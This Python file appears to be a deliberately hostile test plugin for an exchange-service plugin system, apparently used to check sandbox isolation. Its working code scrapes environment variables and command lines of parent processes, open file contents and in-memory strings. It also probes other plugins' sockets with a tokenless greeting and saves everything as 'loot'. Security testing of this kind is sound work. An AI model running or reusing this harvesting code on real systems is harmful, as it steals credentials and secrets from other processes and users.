"""Collects everything that it can read, and writes it into the file that its user's credential names, or into its own
folder."""

import asyncio
import gc
import glob
import os
import sys
from pathlib import Path
from typing import Any

from evil_common import WELL, EvilPlugin

from exchange_service.plugin_api import Balance, VenueCall

# A greeting with an empty token, and a call: frames of the kinds 1 and 3.
WITHOUT_TOKEN = bytes.fromhex("0000000001000000000000000000000000030000000000000001")


def _environments() -> list[str]:
    """Its own environment and arguments, and those of its parent processes."""
    values, pid = [repr(dict(os.environ)), repr(sys.argv)], os.getpid()
    while pid > 1:
        for name in ("environ", "cmdline"):
            try:
                values.append(Path(f"/proc/{pid}/{name}").read_text(errors="replace"))
            except OSError as error:
                values.append(repr(error))
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            break
    return values


def _descriptors() -> list[str]:
    """The paths of its open files, and what can be read from them."""
    values = []
    for name in os.listdir("/proc/self/fd"):
        try:
            values.append(f"descriptor {name}: {os.readlink(f'/proc/self/fd/{name}')}")
            values.append(os.pread(int(name), 1024 * 1024, 0).decode(errors="replace"))
        except OSError as error:
            values.append(repr(error))
    return values


def _objects() -> list[str]:
    """Every text of its process that can be reached from the objects which the garbage collector knows."""
    values: dict[int, Any] = {}
    for item in gc.get_objects():
        for part in (item, *gc.get_referents(item)):
            if isinstance(part, str | bytes) and len(part) < 10_000:
                values[id(part)] = part
    return [repr(part) for part in values.values()]


def _others() -> list[str]:
    """The sockets of other plugins' processes."""
    folders = {os.path.dirname(os.environ["HOME"]), "/tmp"}
    there = {path for folder in folders for path in glob.glob(f"{folder}/exchange-service-plugin-*/socket")}
    with open("/proc/net/unix") as file:
        there |= {line.split()[7] for line in file if "exchange-service-plugin-" in line}
    return sorted(there)


async def _call(path: str) -> str:
    """A process's answer to a greeting without the token."""
    try:
        reader, writer = await asyncio.open_unix_connection(path)
    except OSError:
        return f"asked {path}: refused"
    try:
        writer.write(WITHOUT_TOKEN)
        answer = await asyncio.wait_for(reader.read(), 0.3)
        return repr(answer) if answer else f"asked {path}: ended"
    except TimeoutError:
        return f"asked {path}: silent"
    except OSError:
        return f"asked {path}: ended"
    finally:
        writer.close()


def _keep(file: Path, loot: list[str]) -> None:
    text = "\0".join(loot)
    try:
        file.write_text(text, errors="replace")
    except OSError:
        Path(os.environ["HOME"], file.name).write_text(text, errors="replace")


async def steals(call: VenueCall) -> Balance:
    loot = [*_environments(), *_descriptors(), *_objects(), *[await _call(path) for path in _others()]]
    _keep(Path(call.credential.metadata["loot"]), loot)
    return WELL


plugin = EvilPlugin("evil-steals", steals)
